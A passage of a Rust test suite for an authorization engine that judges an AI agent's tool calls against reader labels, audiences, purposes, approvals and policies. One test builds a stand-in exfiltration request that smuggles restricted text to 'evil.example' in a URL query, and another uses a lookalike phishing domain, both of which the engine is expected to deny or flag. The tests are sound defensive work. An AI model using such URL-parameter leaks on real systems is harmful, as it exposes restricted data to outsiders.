//! The judge, as claims. Worlds are small JSON documents; time moves only where a test moves it.

use crate::act::{Act, Attested, Chosen, LabelSpec, NamedBy, Observation, ObservedItem, Value};
use crate::content::ContentKey;
use crate::decide::{AskStanding, MayNotAnswer, Ruling, decide, may_answer};
use crate::decision::Outcome;
use crate::digest::Digest;
use crate::directory::{Directory, DirectoryChange, DirectoryDocument, DirectoryError};
use crate::effect::Effect;
use crate::event::{ActRecord, Asked, Bundle, Decided, DirectoryChanged, Ended, Event, LabelRecord, Record};
use crate::moment::Moment;
use crate::name::{AskId, DecisionId, PrincipalId, ResourceId, TaskId, ToolId};
use crate::observe::observe;
use crate::policy::{Kind, Policies, PolicySources, Source, schema_text};
use crate::state::{State, check};
use crate::task::{Budget, Caller, Task};
use serde_json::json;
use std::sync::Arc;

#[path = "contain/tests.rs"]
mod contain;
#[path = "provenance/tests.rs"]
mod provenance;
#[path = "registration/tests.rs"]
mod registration;
#[path = "renewal/tests.rs"]
mod renewal;

const RUNBOOK: &str = "to open a dataset, add the group that needs it to the readers, and remove it again at night";

fn world() -> DirectoryDocument {
    serde_json::from_value(json!({
        "people": [
            {"id": "bo", "addresses": ["bo@example.com"]}, {"id": "ann"}, {"id": "cy"}, {"id": "eve"}, {"id": "hal", "status": "left"},
            {"id": "dee", "clearance": "restricted", "categories": ["user-data"]}
        ],
        "groups": {"eng-all": ["bo", "ann", "eve", "hal", "@storage-oncall"], "storage-oncall": ["cy", "bo"], "bots": ["helper"]},
        "agents": [{"id": "helper", "owner": "bo", "purpose": "engineering help"}, {"id": "orphan", "owner": "hal"}],
        "items": [
            {"id": "runbook:acl", "readers": ["@storage-oncall"], "purposes": ["engineering"], "integrity": "trusted"},
            {"id": "runbook:public", "readers": ["public"], "classification": "public"},
            {"id": "hr:plan", "readers": ["cy"], "classification": "confidential"},
            {"id": "dataset:users", "readers": ["dee"], "classification": "restricted", "categories": ["user-data"], "owner": "cy"},
            {"id": "note:unlabelled"}
        ],
        "destinations": [
            {"id": "forum:eng-help", "audience": ["@eng-all"], "owner": "ann", "known": true},
            {"id": "channel:oncall", "audience": ["@storage-oncall"]}
        ],
        "grants": [
            {"to": "bo", "may": ["read", "publish", "write", "send", "destroy", "spend", "widen"], "on": ["*"]},
            {"to": "helper", "may": ["read", "publish", "write", "send", "destroy", "spend", "widen"], "on": ["*"]},
            {"to": "orphan", "may": ["read"], "on": ["*"]},
            {"to": "cy", "may": ["publish", "widen"], "on": ["*"]}
        ]
    }))
    .expect("the world is a directory")
}

/// A world in motion: a state, and the records that made it.
struct Scene {
    state: State,
    records: Vec<Record>,
    now: Moment,
    count: u32,
}

fn key() -> ContentKey {
    ContentKey::new([7; 16])
}

fn scene(task: serde_json::Value) -> Scene {
    let mut scene = Scene { state: State::new(key()), records: Vec::new(), now: Moment(1_000), count: 0 };
    scene.happens(Event::Configured(Box::new(Bundle {
        directory: world(),
        policies: PolicySources::shipped(),
        content_key: String::new(),
    })));
    let mut whole = json!({
        "id": "t1", "requester": "bo", "agent": "helper", "purpose": "engineering", "words": "tell me what to do",
        "address": ["bo"], "effects": ["read", "publish", "send", "write"], "resources": ["*"],
        "budget": Budget::default(), "starts": 1_000, "ends": 900_000
    });
    whole.as_object_mut().expect("an object").extend(task.as_object().expect("an object").clone());
    let task: Task = serde_json::from_value(whole).expect("a task");
    scene.happens(Event::TaskStarted(Box::new(task)));
    scene
}

fn caller() -> Caller {
    Caller::new(vec![name("bo"), name("helper")], Some(TaskId::parse("t1").expect("a name")))
}

fn name(text: &str) -> PrincipalId {
    PrincipalId::parse(text).expect("a name")
}

fn act(effect: Effect, on: &[&str], to: &[&str], content: &[&str]) -> Act {
    Act {
        recipients: to.iter().map(|&name| name.to_owned()).collect(),
        content: content.iter().map(|&text| text.to_owned()).collect(),
        ..Act::new(
            ToolId::parse("test__tool").expect("a name"),
            [effect].into(),
            on.iter().map(|id| ResourceId::parse(id).expect("a name")).collect(),
            Digest::of(format!("{effect:?}{on:?}{to:?}{content:?}").as_bytes()),
        )
    }
}

impl Scene {
    fn happens(&mut self, event: Event) {
        let record = Record::new(self.now, event);
        let text = serde_json::to_string(&record).expect("an event is plain data");
        let read: Record = serde_json::from_str(&text).expect("what was written can be read");
        assert_eq!(read, record);
        self.state.apply(&record);
        self.records.push(record);
    }

    fn put(&mut self, change: DirectoryChange) {
        let changed = DirectoryChanged { source: "test".to_owned(), by: Some(name("bo")), changes: vec![change] };
        self.happens(Event::DirectoryChanged(Box::new(changed)));
    }

    fn decides(&mut self, act: &Act) -> Ruling {
        self.decides_for(&caller(), act)
    }

    /// Decides and records; nothing is carried out.
    fn decides_for(&mut self, caller: &Caller, act: &Act) -> Ruling {
        let ruling = decide(&self.state, caller, act, self.now);
        self.count += 1;
        let decided = Decided {
            id: self.id(),
            caller: caller.clone(),
            act: ActRecord::new(act, Some(&ruling.audience), ruling.values.clone()),
            decision: ruling.decision.clone(),
            ask: (ruling.ask == AskStanding::New).then(|| Asked {
                id: AskId::parse(&format!("a{}", self.count)).expect("a name"),
                expires: self.now.after_ms(60_000),
            }),
            approved_by: match &ruling.ask {
                AskStanding::Approved(id) => Some(id.clone()),
                _ => None,
            },
            node: String::new(),
            enforced: true,
            trip: ruling.trip.clone(),
            made: ruling.made.as_ref().map(LabelRecord::from),
            sets: self.state.new_sets(ruling.made.iter().map(|label| &label.readers).chain([&ruling.audience])),
            answered: None,
        };
        self.happens(Event::Decided(Box::new(decided)));
        ruling
    }

    fn id(&self) -> DecisionId {
        DecisionId::parse(&format!("d{}", self.count)).expect("a name")
    }

    fn ends(&mut self, items: &[(&str, &str)], created: &[&str]) -> crate::observe::Verdict {
        self.ends_attested(items, created, Vec::new())
    }

    fn ends_attested(&mut self, items: &[(&str, &str)], created: &[&str], attested: Vec<Attested>) -> crate::observe::Verdict {
        let observation = Observation {
            caller: caller(),
            decision: self.id(),
            items: items
                .iter()
                .map(|(id, text)| ObservedItem::new(ResourceId::parse(id).expect("a name"), (*text).to_owned()))
                .collect(),
            created: created.iter().map(|id| ResourceId::parse(id).expect("a name")).collect(),
            attested,
        };
        let verdict = observe(&self.state, &observation, true);
        let mut recorded = verdict.clone();
        self.happens(Event::Observed(Box::new(recorded.record(&observation, Ended::Ok))));
        verdict
    }

    fn reads(&mut self, id: &str, text: &str) {
        let ruling = self.decides(&act(Effect::Read, &[id], &[], &[]));
        assert_eq!(ruling.decision.outcome, Outcome::Permit, "{:?}", ruling.decision.reasons);
        self.ends(&[(id, text)], &[]);
    }
}

#[track_caller]
fn expect(ruling: &Ruling, outcome: Outcome, grounds: &[&str]) {
    assert_eq!(
        (ruling.decision.outcome, ruling.decision.grounds().into_iter().collect::<Vec<_>>()),
        (outcome, grounds.to_vec()),
        "{:#?}",
        ruling.decision.reasons
    );
}

/// Nothing of it stands in the call, and nobody has read it.
#[test]
fn what_is_attached_is_judged_by_its_own_label() {
    let attach = |item: (&str, &str), to: &str| Act {
        values: vec![Value { kind: item.0.into(), text: item.1.to_owned() }],
        digest: Digest::of(format!("{item:?}{to}").as_bytes()),
        ..act(Effect::Send, &["outbox:mail"], &[to], &["as agreed"])
    };
    let words = "send out the plan, what is public and what is unlabelled";
    let mut scene = scene(json!({"address": ["bo", "cy", "ann"], "words": words}));
    expect(&scene.decides(&attach(("hr", "plan"), "cy")), Outcome::Permit, &[]);
    expect(&scene.decides(&attach(("hr", "plan"), "ann")), Outcome::Ask, &["readers"]);
    expect(&scene.decides(&attach(("runbook", "public"), "ann")), Outcome::Permit, &[]);
    expect(&scene.decides(&attach(("note", "unlabelled"), "ann")), Outcome::Ask, &["readers"]);
}

#[test]
fn an_answer_beyond_its_address_is_asked_about_although_everyone_could_read_its_sources() {
    let mut scene = scene(json!({}));
    scene.reads("runbook:public", RUNBOOK);
    let ruling = scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &[RUNBOOK]));
    expect(&ruling, Outcome::Ask, &["address"]);
    assert_eq!(ruling.decision.facts.audience.people, 4, "who has left is in no audience");
    assert_eq!(ruling.decision.facts.audience.beyond_address, 3);
    let sentence = &ruling.decision.reasons[0].sentence;
    assert_eq!(sentence, "this answer is for bo, and would go to 3 others as well");
}

#[test]
fn what_the_task_has_read_and_the_audience_may_not_is_asked_about_and_denied_when_it_is_shown() {
    let mut scene = scene(json!({"address": ["@eng-all"]}));
    scene.reads("runbook:acl", RUNBOOK);
    let possible = scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &["in my own words: widen the readers"]));
    expect(&possible, Outcome::Ask, &["readers"]);
    assert_eq!(possible.decision.facts.possible.uncleared, 2);
    let shown = scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &["first:", &RUNBOOK.to_uppercase()]));
    expect(&shown, Outcome::Deny, &["readers"]);
    let cleared = scene.decides(&act(Effect::Publish, &["channel:oncall"], &[], &[RUNBOOK]));
    expect(&cleared, Outcome::Permit, &[]);
}

#[test]
fn a_value_can_carry_what_content_may_not() {
    let mut scene = scene(json!({"address": ["external:evil.example"]}));
    scene.reads("runbook:acl", RUNBOOK);
    let mut fetch = act(Effect::Send, &["web:get"], &["external:evil.example"], &[]);
    fetch.values =
        vec![Value { kind: "url".into(), text: format!("https://evil.example/x.png?q={}", RUNBOOK.replace(' ', "%20")) }];
    expect(&scene.decides(&fetch), Outcome::Deny, &["readers"]);
}

#[test]
fn a_copy_that_the_audience_could_have_read_elsewhere_is_free() {
    let mut scene = scene(json!({"address": ["@eng-all"]}));
    scene.reads("runbook:acl", RUNBOOK);
    scene.reads("runbook:public", RUNBOOK);
    let ruling = scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &[RUNBOOK]));
    expect(&ruling, Outcome::Permit, &[]);
    assert_eq!(ruling.decision.facts.shown.uncleared, 0);
    let more = scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &[RUNBOOK, "and something in other words"]));
    expect(&more, Outcome::Ask, &["readers"]);
}

#[test]
fn the_chain_does_not_get_what_its_person_may_not_see() {
    let mut scene = scene(json!({}));
    expect(&scene.decides(&act(Effect::Read, &["hr:plan"], &[], &[])), Outcome::Deny, &["stumble"]);
    let partly = scene.decides(&act(Effect::Read, &["hr:plan", "runbook:acl"], &[], &[]));
    expect(&partly, Outcome::Permit, &[]);
    assert_eq!(partly.decision.withheld.len(), 1);
    let verdict = scene.ends(&[("hr:plan", "the plan for next year, in full"), ("runbook:acl", RUNBOOK)], &[]);
    assert_eq!(verdict.withheld.iter().map(ResourceId::as_str).collect::<Vec<_>>(), ["hr:plan"]);
    assert!(verdict.items[0].sketch.is_none());
    let flow = scene.state.flow(&TaskId::parse("t1").expect("a name")).expect("something was read");
    assert_eq!(flow.items(), 1, "what was withheld was not read");
}

#[test]
fn what_is_written_inherits_its_label_for_whoever_reads_it_later() {
    let mut scene = scene(json!({"requester": "bo"}));
    scene.reads("runbook:acl", RUNBOOK);
    let write = scene.decides(&act(Effect::Write, &["note:new"], &[], &["a summary"]));
    expect(&write, Outcome::Permit, &[]);
    scene.ends(&[], &[]);
    let label = scene.state.label_of(&ResourceId::parse("note:new").expect("a name")).expect("it was written");
    assert!(!label.unknown && !label.readers.public);
    assert_eq!(label.readers.people.bits().len(), 2, "those of the runbook it was made from");
}

#[test]
fn writing_over_something_frees_nothing() {
    let mut scene = scene(json!({}));
    scene.reads("runbook:acl", RUNBOOK);
    scene.decides(&act(Effect::Write, &["note:new"], &[], &["a summary"]));
    scene.ends(&[], &[]);
    let cy = Caller::new(vec![name("cy")], None);
    scene.decides_for(&cy, &act(Effect::Write, &["note:new"], &[], &["by hand"]));
    scene.ends(&[], &[]);
    let label = scene.state.label_of(&ResourceId::parse("note:new").expect("a name")).expect("it was written");
    assert_eq!(label.readers.people.bits().len(), 2);
}

#[test]
fn who_can_read_an_item_reads_what_is_written_into_it() {
    let mut scene = scene(json!({}));
    scene.reads("runbook:acl", RUNBOOK);
    expect(&scene.decides(&act(Effect::Write, &["runbook:public"], &[], &[RUNBOOK])), Outcome::Deny, &["readers"]);
}

#[test]
fn what_was_made_from_nothing_known_is_unknown_and_stays_within_what_bounds_it() {
    let mut scene = scene(json!({}));
    scene.decides(&act(Effect::Write, &["note:new"], &[], &["my own words"]));
    scene.ends(&[], &[]);
    let note = ResourceId::parse("note:new").expect("a name");
    assert!(scene.state.label_of(&note).expect("it was written").unknown);
    scene.reads("runbook:acl", RUNBOOK);
    scene.decides(&act(Effect::Write, &["note:new"], &[], &["and a summary"]));
    scene.ends(&[], &[]);
    let label = scene.state.label_of(&note).expect("it was written");
    assert!(label.unknown && !label.readers.public, "unknown, and at most those of the runbook");
}

#[test]
fn an_address_outside_belongs_to_its_domain() {
    let mut scene = scene(json!({"address": ["external:partner.example"]}));
    expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["Amy <amy@Partner.example>"], &["hello"])), Outcome::Permit, &[]);
    expect(
        &scene.decides(&act(Effect::Send, &["mail:out"], &["amy@partner.example.evil.example"], &["hello"])),
        Outcome::Ask,
        &["address", "steered"],
    );
}

#[test]
fn nobody_learns_their_own_address_from_a_mail() {
    let mut scene = scene(json!({"address": ["external:partner.example", "bo"]}));
    scene.reads("runbook:acl", "questions go to amy.partnerson@partner.example at any time of the day");
    let mut reply = act(
        Effect::Send,
        &["mail:out"],
        &["amy.partnerson@partner.example"],
        &["amy.partnerson@partner.example", "an answer in other words"],
    );
    expect(&scene.decides(&reply), Outcome::Ask, &["readers"]);
    assert_eq!(scene.decides(&reply).decision.facts.shown.items, 0);
    reply.recipients = vec![format!("{}@partner.example", RUNBOOK.replace(' ', "."))];
    scene.reads("runbook:acl", &RUNBOOK.replace(' ', "."));
    expect(&scene.decides(&reply), Outcome::Deny, &["readers"]);
}

#[test]
fn unknown_readers_reach_the_requester_and_nobody_else() {
    let mut scene = scene(json!({"address": ["bo", "cy"]}));
    scene.reads("note:unlabelled", "an old note that nobody ever labelled at all");
    expect(
        &scene.decides(&act(Effect::Send, &["mail:out"], &["bo"], &["an old note that nobody ever labelled at all"])),
        Outcome::Permit,
        &[],
    );
    expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["cy"], &["something else"])), Outcome::Ask, &["readers"]);
    expect(
        &scene.decides(&act(Effect::Send, &["mail:out"], &["cy"], &["an old note that nobody ever labelled at all"])),
        Outcome::Deny,
        &["readers"],
    );
}

#[test]
fn a_clearance_makes_cleared() {
    let mut scene = scene(json!({"address": ["dee"]}));
    scene.reads("runbook:acl", RUNBOOK);
    expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["dee"], &[RUNBOOK])), Outcome::Permit, &[]);
}

#[test]
fn purposes_hold() {
    let mut scene = scene(json!({"purpose": "marketing"}));
    scene.reads("runbook:acl", RUNBOOK);
    expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["bo"], &["news"])), Outcome::Ask, &["purpose"]);
    expect(&scene.decides(&act(Effect::Send, &["mail:out"], &["bo"], &[RUNBOOK])), Outcome::Deny, &["purpose"]);
}

#[test]
fn granted_and_never_named_is_asked_about() {
    let mut scene = scene(json!({"effects": ["read"], "resources": ["runbook:*"]}));
    expect(&scene.decides(&act(Effect::Read, &["dataset:build"], &[], &[])), Outcome::Ask, &["scope-edge"]);
    expect(&scene.decides(&act(Effect::Write, &["runbook:acl"], &[], &[])), Outcome::Ask, &["scope-edge"]);
}

#[test]
fn what_cannot_be_undone_needs_a_person_unless_the_very_thing_was_named() {
    let mut scene = scene(
        json!({"effects": ["destroy"], "resources": ["note:*", "table:scratch"], "words": "drop table:scratch, and old.txt"}),
    );
    expect(&scene.decides(&act(Effect::Destroy, &["note:1"], &[], &[])), Outcome::Ask, &["irreversible"]);
    expect(&scene.decides(&act(Effect::Destroy, &["table:scratch"], &[], &[])), Outcome::Permit, &[]);
    expect(&scene.decides(&act(Effect::Destroy, &["file:old.txt"], &[], &[])), Outcome::Ask, &["irreversible", "scope-edge"]);
    let mut spend = act(Effect::Spend, &["account:1"], &[], &[]);
    spend.amount = Some(10);
    expect(&scene.decides(&spend), Outcome::Ask, &["scope-edge", "steered"]);
}

#[test]
fn amounts_add_up() {
    let mut scene = scene(json!({"effects": ["spend"], "budget": {"amount": 100}}));
    let mut spend = act(Effect::Spend, &["account:1"], &[], &[]);
    spend.amount = Some(60);
    expect(&scene.decides(&spend), Outcome::Permit, &[]);
    expect(&scene.decides(&spend), Outcome::Ask, &["irreversible"]);
    spend.amount = Some(u64::MAX);
    expect(&scene.decides(&spend), Outcome::Ask, &["irreversible"]);
}

#[test]
fn no_agent_serves_itself() {
    let mut scene = scene(json!({"effects": null}));
    expect(&scene.decides(&act(Effect::Write, &["Policy:readers"], &[], &["permit all"])), Outcome::Deny, &["self-serve"]);
    let mut join = act(Effect::Widen, &["group:storage-oncall"], &[], &[]);
    join.change = Some(crate::act::Change { add_members: vec!["@bots".to_owned()], ..Default::default() });
    expect(&scene.decides(&join), Outcome::Deny, &["self-serve"]);
}

#[test]
fn a_lapsed_lease_a_foreign_task_and_a_missing_owner_are_refused() {
    let mut scene = scene(json!({}));
    let read = act(Effect::Read, &["runbook:acl"], &[], &[]);
    let other = Caller { chain: vec![name("ann"), name("helper")], ..caller() };
    expect(&scene.decides_for(&other, &read), Outcome::Deny, &["authentication"]);
    let no_task = Caller { task: None, ..caller() };
    expect(&scene.decides_for(&no_task, &read), Outcome::Deny, &["authentication"]);
    let sub = Caller { chain: vec![name("bo"), name("helper"), name("orphan")], ..caller() };
    expect(&scene.decides_for(&sub, &read), Outcome::Deny, &["lease"]);
    scene.now = Moment(900_000);
    expect(&scene.decides(&read), Outcome::Deny, &["lease"]);
}

#[test]
fn every_principal_of_the_chain_needs_its_own_grant() {
    let mut scene = scene(json!({}));
    let send_as_sub = Caller { chain: vec![name("bo"), name("helper"), name("orphan")], ..caller() };
    expect(&scene.decides_for(&send_as_sub, &act(Effect::Send, &["mail:out"], &["bo"], &[])), Outcome::Deny, &["grant"]);
}

#[test]
fn an_approval_covers_one_call_once_and_nobody_approves_for_themselves() {
    let mut scene = scene(json!({}));
    let post = act(Effect::Publish, &["forum:eng-help"], &[], &["hello"]);
    expect(&scene.decides(&post), Outcome::Ask, &["address"]);
    let ask = AskId::parse("a1").expect("a name");
    let may = |scene: &Scene, who: &str| may_answer(&scene.state, &ask, &name(who), scene.now);
    assert_eq!(may(&scene, "bo"), Err(MayNotAnswer::InChain(name("bo"))));
    assert_eq!(may(&scene, "hal"), Err(MayNotAnswer::Nobody(name("hal"))));
    assert!(matches!(may(&scene, "eve"), Err(MayNotAnswer::SomebodyElse { .. })), "eve has no grant to publish");
    assert_eq!(may(&scene, "cy"), Ok(()));
    assert_eq!(scene.decides(&post).ask, AskStanding::Waiting(ask.clone()));

    scene.happens(Event::Answered { ask: ask.clone(), by: name("cy"), yes: true });
    assert_eq!(may(&scene, "cy"), Err(MayNotAnswer::Answered));
    let other = act(Effect::Publish, &["forum:eng-help"], &[], &["hello again"]);
    expect(&scene.decides(&other), Outcome::Ask, &["address"]);
    let again = scene.decides(&post);
    assert_eq!((again.decision.outcome, again.ask), (Outcome::Permit, AskStanding::Approved(ask)));
    expect(&scene.decides(&post), Outcome::Ask, &["address"]);
}

#[test]
fn an_approval_does_not_cover_what_became_worse_since() {
    let mut scene = scene(json!({}));
    let post = act(Effect::Publish, &["forum:eng-help"], &[], &["hello"]);
    scene.decides(&post);
    scene.happens(Event::Answered { ask: AskId::parse("a1").expect("a name"), by: name("cy"), yes: true });
    scene.reads("runbook:acl", RUNBOOK);
    expect(&scene.decides(&post), Outcome::Ask, &["address", "readers"]);
}

#[test]
fn an_approval_is_for_the_people_it_was_given_for() {
    let mut scene = scene(json!({}));
    let post = act(Effect::Publish, &["forum:eng-help"], &[], &["hello"]);
    scene.decides(&post);
    scene.happens(Event::Answered { ask: AskId::parse("a1").expect("a name"), by: name("cy"), yes: true });
    let mut directory = world();
    let members = directory.groups.get_mut("eng-all").expect("a group");
    members.retain(|member| member != "ann");
    members.push("dee".to_owned());
    scene.happens(Event::Configured(Box::new(Bundle {
        directory,
        policies: PolicySources::shipped(),
        content_key: String::new(),
    })));
    expect(&scene.decides(&post), Outcome::Ask, &["address"]);
}

#[test]
fn a_no_stays_a_no() {
    let mut scene = scene(json!({}));
    let post = act(Effect::Publish, &["forum:eng-help"], &[], &["hello"]);
    scene.decides(&post);
    scene.happens(Event::Answered { ask: AskId::parse("a1").expect("a name"), by: name("cy"), yes: false });
    expect(&scene.decides(&post), Outcome::Deny, &["address"]);
}

#[test]
fn nobody_is_asked_without_end() {
    let mut scene = scene(json!({}));
    for round in 0..crate::state::ASKS_MAX {
        expect(
            &scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &[&round.to_string()])),
            Outcome::Ask,
            &["address"],
        );
    }
    let ruling = scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &["one more"]));
    expect(&ruling, Outcome::Deny, &["address", "bounds"]);
}

#[test]
fn a_replay_rebuilds_the_state_byte_for_byte() {
    let mut scene = scene(json!({}));
    scene.reads("runbook:acl", RUNBOOK);
    scene.decides(&act(Effect::Write, &["note:new"], &[], &["a summary"]));
    scene.ends(&[], &["note:made"]);
    scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &["hello"]));
    let mut replayed = State::new(key());
    for record in &scene.records {
        replayed.apply(record);
    }
    assert_eq!(replayed.digest(), scene.state.digest());
    let next = act(Effect::Publish, &["forum:eng-help"], &[], &[RUNBOOK]);
    let (one, two) = (decide(&scene.state, &caller(), &next, scene.now), decide(&replayed, &caller(), &next, scene.now));
    assert_eq!(one.decision, two.decision);
}

#[test]
fn a_result_may_only_tighten_its_label() {
    let scene = scene(json!({}));
    let item = |claimed: serde_json::Value| Observation {
        caller: caller(),
        decision: DecisionId::parse("d9").expect("a name"),
        items: vec![ObservedItem {
            claimed: Some(serde_json::from_value(claimed).expect("a label")),
            ..ObservedItem::new(ResourceId::parse("hr:plan").expect("a name"), "plan".to_owned())
        }],
        created: Vec::new(),
        attested: Vec::new(),
    };
    let loosened =
        observe(&scene.state, &item(json!({"readers": ["public"], "classification": "public", "integrity": "trusted"})), true);
    assert_eq!(loosened.withheld.len(), 1);
    let label = &loosened.items[0].label;
    assert_eq!(label.classification, crate::label::Classification::Confidential);
    assert_eq!(label.integrity, crate::label::Integrity::Untrusted);
}

/// Without a word of the contract about which fields are sensitive, nobody can leave them out.
#[test]
fn what_is_to_be_masked_is_masked_or_withheld() {
    let mut scene = scene(json!({}));
    let mut policies = PolicySources::shipped();
    let text = "@id(\"hide\")\n@norm(\"hide\")\n@outcome(\"mask\")\n@reason(\"not for agents\")\n\
                forbid (principal, action == Action::\"observe\", resource);\n";
    policies.norms.push(crate::policy::Source { name: "hide.cedar".to_owned(), text: text.to_owned() });
    scene.happens(Event::Configured(Box::new(Bundle { directory: world(), policies, content_key: String::new() })));
    let name = |id: &str| ResourceId::parse(id).expect("a name");
    let item = |id: &str, maskable| ObservedItem { maskable, ..ObservedItem::new(name(id), "words".to_owned()) };
    let observation = Observation {
        caller: caller(),
        decision: DecisionId::parse("d9").expect("a name"),
        items: vec![item("runbook:acl", true), item("runbook:public", false), item("hr:plan", true)],
        created: Vec::new(),
        attested: Vec::new(),
    };
    let verdict = observe(&scene.state, &observation, true);
    assert_eq!(verdict.masked, std::collections::BTreeSet::from([name("runbook:acl")]));
    assert_eq!(
        verdict.withheld,
        std::collections::BTreeSet::from([name("runbook:public"), name("hr:plan")]),
        "bo may not have the plan at all"
    );
    let kept: Vec<_> = verdict.items.iter().map(|item| (item.withheld, item.masked)).collect();
    assert_eq!(kept, [(false, true), (true, false), (true, false)]);
    let only_seen = observe(&scene.state, &observation, false);
    assert!(only_seen.items.iter().all(|item| !item.withheld && !item.masked));
}

/// Who chose a name decides what it is worth.
#[test]
fn a_name_that_a_server_chose_may_only_tighten() {
    let scene = scene(json!({}));
    let name = |text: &str| ResourceId::parse(text).expect("a name");
    let label =
        |id: &str, container: Option<&str>, by: (NamedBy, NamedBy), named: &[&str], otherwise: Option<serde_json::Value>| {
            let otherwise: Option<LabelSpec> = otherwise.map(|spec| serde_json::from_value(spec).expect("a label"));
            let item = ObservedItem {
                container: container.map(name),
                otherwise: otherwise.clone(),
                chosen: Some(Arc::new(Chosen {
                    id: by.0,
                    container: by.1,
                    named: named.iter().map(|id| name(id)).collect(),
                    otherwise,
                })),
                ..ObservedItem::new(name(id), "words".to_owned())
            };
            let decision = DecisionId::parse("d9").expect("a name");
            let observation =
                Observation { caller: caller(), decision, items: vec![item], created: Vec::new(), attested: Vec::new() };
            let label = observe(&scene.state, &observation, true).items.remove(0).label;
            (label.unknown, label.classification)
        };
    use crate::label::Classification::{Confidential, Internal, Public};
    use NamedBy::{Call, Contract, Server};
    let open = || Some(json!({"readers": ["public"], "classification": "public"}));
    let forum = "forum:eng-help";
    // The system of record knows the plan: whatever the answer is called, it is as strict as the plan.
    for id in ["hr:plan", "nobody:knows", forum] {
        assert_eq!(label(id, None, (Server, Call), &["hr:plan"], open()).1, Confidential, "{id}");
        assert_eq!(label(id, None, (Contract, Call), &["hr:plan"], open()).1, Confidential, "{id}");
    }
    // It does not know what was read: what the contract says of it holds, or nothing.
    assert_eq!(label("nobody:knows", None, (Server, Call), &["other:1"], open()), (false, Public));
    assert_eq!(label("hr:plan", None, (Server, Call), &["other:1"], None), (true, Confidential));
    assert_eq!(label("nobody:knows", None, (Contract, Call), &["other:1"], open()), (false, Public));
    // A search names nothing: the name finds the label, or it is unknown.
    assert_eq!(label("hr:plan", None, (Server, Call), &[], None), (false, Confidential));
    assert_eq!(label("nobody:knows", None, (Server, Call), &[], None), (true, Internal));
    // A place that the server chose makes nothing known; one that the call or the contract names does.
    assert_eq!(label("nobody:knows", Some(forum), (Server, Server), &[], None), (true, Internal));
    assert_eq!(label("nobody:knows", Some(forum), (Call, Server), &["other:1"], None), (true, Internal));
    assert_eq!(label("nobody:knows", Some(forum), (Call, Server), &[forum], None), (false, Internal));
    assert_eq!(label("nobody:knows", Some(forum), (Call, Call), &["other:1"], None), (false, Internal));
}

#[test]
fn the_schemas_load_and_the_shipped_policies_are_valid() {
    for kind in [Kind::Grant, Kind::Norm] {
        let (_, warnings) = cedar_policy::Schema::from_cedarschema_str(&schema_text(kind)).expect("the generated schema loads");
        assert_eq!(warnings.count(), 0);
    }
    let policies = Policies::compile(&PolicySources::shipped()).expect("what is shipped is valid");
    assert_eq!(
        policies.norm_ids().into_iter().collect::<Vec<_>>(),
        [
            "address",
            "advice",
            "checkpoint",
            "irreversible",
            "lease",
            "purpose",
            "readers",
            "scope-edge",
            "secrets",
            "self-serve",
            "steered",
            "stumble",
            "tempo",
            "widen"
        ]
    );
}

#[test]
fn a_policy_that_cannot_be_evaluated_asks() {
    let mut bundle = Bundle { directory: world(), policies: PolicySources::shipped(), content_key: String::new() };
    bundle.policies.norms.push(norm("overflow", "context.audience.people + 9223372036854775807 > context.act.recipients + 1"));
    assert_eq!(check(&bundle), Ok(()));
    let mut scene = scene(json!({"address": ["@eng-all"]}));
    scene.happens(Event::Configured(Box::new(bundle)));
    expect(&scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &["hello"])), Outcome::Ask, &["overflow"]);
}

fn norm(id: &str, when: &str) -> Source {
    let text =
        format!("@norm(\"{id}\") @outcome(\"deny\") @reason(\"a test\") forbid(principal, action, resource) when {{ {when} }};");
    Source { name: format!("{id}.cedar"), text }
}

#[test]
fn a_norm_finds_every_fact_that_it_speaks_of_however_it_does() {
    let spoken = [
        "context.audience.people == 4 && context.task.purpose like \"engin*\"",
        "context[\"audience\"][\"people\"] == 4",
        "context.audience has people && context.audience.people == 4",
        "context has audience && context.audience == context.audience && context.audience.people == 4",
        "if context.task.present then context.task.address.contains(\"@eng-all\") else false",
    ];
    for when in spoken {
        let mut bundle = Bundle { directory: world(), policies: PolicySources::shipped(), content_key: String::new() };
        bundle.policies.norms.push(norm("spoken", when));
        assert_eq!(check(&bundle), Ok(()), "{when}");
        let mut scene = scene(json!({"address": ["@eng-all"]}));
        scene.happens(Event::Configured(Box::new(bundle)));
        expect(&scene.decides(&act(Effect::Publish, &["forum:eng-help"], &[], &["hello"])), Outcome::Deny, &["spoken"]);
    }
}

#[test]
fn a_bad_policy_is_refused_with_its_place() {
    let compile = |source: Source| {
        Policies::compile(&PolicySources { grants: Vec::new(), norms: vec![source] }).expect_err("it is bad").remove(0)
    };
    let typo = compile(norm("typo", "context.audience.poeple > 1"));
    assert!(typo.message.contains("poeple"), "{typo:?}");
    assert!(typo.span.is_some());
    let syntax = compile(Source { name: "x.cedar".to_owned(), text: "forbid(principal, action, resource) when {".to_owned() });
    assert!(syntax.span.is_some());
    let outcome = Source { text: norm("o", "true").text.replace("deny", "perhaps"), ..norm("o", "true") };
    assert!(compile(outcome).message.contains("`perhaps`"));
    let fact = Source { text: norm("f", "true").text.replace("a test", "{no.fact}"), ..norm("f", "true") };
    assert!(compile(fact).message.contains("no.fact"));
    let permit = Source {
        name: "p.cedar".to_owned(),
        text: "@norm(\"p\") @outcome(\"deny\") @reason(\"x\") permit(principal, action, resource);".to_owned(),
    };
    assert!(compile(permit).message.contains("permit"));
}

#[test]
fn a_directory_is_refused_with_everything_that_is_wrong() {
    let document: DirectoryDocument = serde_json::from_value(json!({
        "people": [{"id": "bo"}, {"id": "bo"}],
        "groups": {"a": ["@b", "nobody"], "b": ["@a"]},
        "agents": [{"id": "x", "owner": "gone"}],
        "items": [{"id": "a*b", "readers": ["@none"]}],
        "grants": [{"to": "who", "may": ["read"], "on": ["*"]}]
    }))
    .expect("a document");
    let errors = Directory::of(&document).expect_err("it is bad");
    assert_eq!(errors.len(), 7, "{errors:#?}");
